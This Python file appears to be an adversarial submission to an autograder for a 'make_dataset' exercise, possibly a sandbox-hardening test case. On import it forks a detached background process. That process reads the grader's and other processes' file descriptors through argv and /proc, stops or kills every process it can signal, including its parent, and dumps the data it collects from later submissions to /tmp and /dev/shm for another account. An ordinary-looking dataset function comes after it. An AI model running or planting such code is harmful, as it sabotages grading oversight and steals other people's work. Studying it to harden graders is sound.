"""Attack: take over the grader for the students after this one.

A helper process outlives the function: it looks for the grader's channels (the fds named in
the zygote's argv, any socket another process holds), tries to stop or kill every process it
can see, and collects whatever later submissions send, for a second account to read.
"""

import os
import signal
import sys
import time

import numpy as np

EXERCISE = "make_dataset"
HONEST = "make_dataset_labels_01"


def _helper():
    for fd in range(3, 256):  # never its own channel: only what belongs to others counts
        try:
            os.close(fd)
        except OSError:
            pass
    found = []
    deadline = time.time() + 30
    while time.time() < deadline:
        for arg in sys.argv[1:]:
            if arg.isdigit():
                try:
                    found.append(os.read(int(arg), 1 << 16))
                except OSError:
                    pass
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (os.getpid(), 1):
                for sig in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(int(pid), sig)
                    except OSError:
                        pass
            for fd in os.listdir(f"/proc/{pid}/fd") if pid.isdigit() else []:
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "rb") as stolen:
                        found.append(stolen.read(1 << 16))
                except OSError:
                    pass
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
        except OSError:
            pass
        for place in ("/tmp/collected", "/dev/shm/collected"):
            try:
                with open(place, "wb") as out:
                    out.write(b"".join(found))
            except OSError:
                pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _helper()
    os._exit(0)


def make_dataset(n_samples, n_features=2, threshold=0.5, seed=None):
    rng = np.random.default_rng(seed)
    X = rng.random((n_samples, n_features))
    return X, (X.sum(axis=1) > threshold).astype(int)
